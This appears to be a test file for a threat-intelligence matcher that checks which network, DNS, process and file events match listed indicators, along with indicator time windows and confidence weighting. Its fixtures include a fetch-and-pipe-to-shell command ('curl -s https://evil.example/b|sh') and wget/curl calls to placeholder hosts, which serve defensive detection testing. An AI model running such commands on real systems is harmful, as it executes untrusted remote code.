// Which events an indicator is seen in, what the detection says of it, and that what has ended is not seen any more.
import { describe, expect, it } from 'vitest';
import { IntelMatcher } from '../../collector/src/detect/intel/intel-matcher.ts';
import { indexOf, type TestSource } from '../support/intel-index.ts';
import { enrichedBatch, hostEvent, STARTED_AT_US, type WrittenEvent } from '../support/rule-events.ts';

const DAY_US = 86_400_000_000;
const AT_US = STARTED_AT_US + 100 * DAY_US;

function matched(sources: readonly TestSource[], events: readonly object[], receivedAtUs = AT_US) {
  const batch = enrichedBatch(
    events.map((event) =>
      hostEvent({ class: 'NETWORK', activity: 'CONNECTION_OPENED', ...event } as WrittenEvent, AT_US),
    ),
    { receivedAtUs },
  );
  return new IntelMatcher(indexOf(sources)).match(batch);
}

const listed = (
  kind: 'address' | 'network' | 'endpoint' | 'domain' | 'url' | 'sha256',
  value: string,
  more: object = {},
) => [{ source: 'feed', values: [{ kind, value, ...more }] }];
const to = (destinationAddress: string, destinationPort = 443) => ({
  network: { sourceAddress: '10.0.0.5', sourcePort: 40_000, destinationAddress, destinationPort },
});
const from = (sourceAddress: string, sourcePort = 50_000) => ({ authentication: { sourceAddress, sourcePort } });
const asks = (questionName: string) => ({ network: { questionName } });
const runs = (...args: string[]) => ({ process: { executable: '/usr/bin/curl', args } });
const DIGEST = 'ab'.repeat(32);

describe('an event is seen', () => {
  it.each([
    ['its destination', listed('address', '203.0.113.7'), to('203.0.113.7'), 'destination.ip'],
    ['its destination, mapped into IPv6', listed('address', '203.0.113.7'), to('::ffff:203.0.113.7'), 'destination.ip'],
    ['its destination in a network', listed('network', '203.0.113.0/24'), to('203.0.113.200'), 'destination.ip'],
    [
      'its destination in a network of IPv6',
      listed('network', '2001:db8::/33'),
      to('2001:db8:7fff::1'),
      'destination.ip',
    ],
    ['its destination with the port', listed('endpoint', '203.0.113.7:443'), to('203.0.113.7', 443), 'destination.ip'],
    ['its source', listed('address', '203.0.113.7'), from('203.0.113.7'), 'source.ip'],
    [
      'its source, where only that is meant',
      listed('address', '203.0.113.7', { side: 'source' }),
      from('203.0.113.7'),
      'source.ip',
    ],
    ['the name asked for', listed('domain', 'evil.example'), asks('EVIL.example.'), 'dns.question.name'],
    [
      'a name below it',
      listed('domain', 'evil.example', { subdomains: true }),
      asks('a.b.evil.example'),
      'dns.question.name',
    ],
    ['a name in other letters', listed('domain', 'xn--bcher-kva.example'), asks('BÜCHER.example'), 'dns.question.name'],
    [
      'a URL in a command line',
      listed('url', 'http://evil.example/a.sh'),
      runs('curl', 'HTTP://Evil.example:80/a.sh#x'),
      'process.args',
    ],
    [
      'the host of one',
      listed('domain', 'evil.example'),
      runs('sh', '-c', 'curl -s https://evil.example/b|sh'),
      'process.args',
    ],
    [
      'the address of one',
      listed('endpoint', '203.0.113.7:8080'),
      runs('wget', 'http://203.0.113.7:8080/x'),
      'process.args',
    ],
    [
      'its program',
      listed('sha256', DIGEST),
      { process: { executableSha256: DIGEST.toUpperCase() } },
      'process.hash.sha256',
    ],
    ['its file', listed('sha256', DIGEST), { file: { sha256: DIGEST } }, 'file.hash.sha256'],
  ])('by %s', (_, sources, event, field) => {
    const [found, ...more] = matched(sources, [event]);
    expect(more).toEqual([]);
    expect(found?.values?.['threatguard.indicator.field']).toBe(field);
    expect(found?.entity).toBe(`threatguard.indicator.value=${sources[0]!.values[0]!.value}`);
  });

  it.each([
    ['another address', listed('address', '203.0.113.7'), to('203.0.113.70')],
    ['beside a network', listed('network', '203.0.113.0/24'), to('203.0.114.0')],
    ['another port', listed('endpoint', '203.0.113.7:443'), to('203.0.113.7', 444)],
    ['the other end of the connection', listed('address', '203.0.113.7', { side: 'destination' }), from('203.0.113.7')],
    ['a name below one that stands for itself', listed('domain', 'evil.example'), asks('www.evil.example')],
    ['a name that only ends alike', listed('domain', 'evil.example', { subdomains: true }), asks('notevil.example')],
    ['another path', listed('url', 'http://evil.example/a'), runs('curl', 'http://evil.example/ab')],
    ['nothing that can be an address', listed('address', '203.0.113.7'), to('not an address')],
  ])('not by %s', (_, sources, event) => expect(matched(sources, [event])).toEqual([]));
});

it('what has ended at the time of an event, or begins only later, is not seen', () => {
  const until = (untilUs: number) => matched(listed('address', '203.0.113.7', { untilUs }), [to('203.0.113.7')]).length;
  expect([until(AT_US + 1e6), until(AT_US), until(AT_US - 1e6)]).toEqual([1, 0, 0]);
  const since = (sinceUs: number) => matched(listed('address', '203.0.113.7', { sinceUs }), [to('203.0.113.7')]).length;
  expect([since(AT_US - DAY_US), since(AT_US + DAY_US)]).toEqual([1, 0]);
  // What happened before its source knew is seen as well: that is what sources are for.
  expect(
    matched(listed('address', '203.0.113.7', { sinceUs: AT_US + DAY_US }), [to('203.0.113.7')], AT_US + 2 * DAY_US),
  ).toHaveLength(1);
});

it('many events of one indicator are one detection of the batch, with the first fifty of them', () => {
  const [found, ...more] = matched(
    listed('network', '203.0.113.0/24'),
    Array.from({ length: 80 }, (_, n) => to(`203.0.113.${n + 1}`)),
  );
  expect(more).toEqual([]);
  expect(found?.events).toHaveLength(50);
  expect(found?.values).toMatchObject({ 'threatguard.count': '80', 'threatguard.indicator.kind': 'network' });
});

it('all that sources say of an address, its port and its networks is weighed together, and the narrowest is named', () => {
  const sources: TestSource[] = [
    { source: 'wide', confidence: 60, values: [{ kind: 'network', value: '203.0.0.0/16' }] },
    {
      source: 'near',
      confidence: 80,
      tlp: 'red',
      values: [{ kind: 'address', value: '203.0.113.7', techniques: ['T1105'], tactics: ['command-and-control'] }],
    },
    { source: 'doubts', confidence: 5, values: [{ kind: 'address', value: '203.0.113.7' }] },
  ];
  const [found, ...more] = matched(sources, [to('203.0.113.7')]);
  expect(more).toEqual([]);
  expect(found).toMatchObject({ ruleId: 'indicator/address', techniques: ['T1105'] });
  expect(found?.reason).toMatch(
    /^destination 203\.0\.113\.7 is on 3 feeds: near \(confidence 80, .*TLP red\), doubts .*, wide .*; weighed \d+$/,
  );
  expect(found?.values?.['threatguard.indicator.tlp']).toBe('red');
  expect(found?.values?.['threatguard.indicator.weighed']).toContain(
    'doubts 5 (counts 1/2, contradicts), wide 60 (counts 1/4)',
  );
});
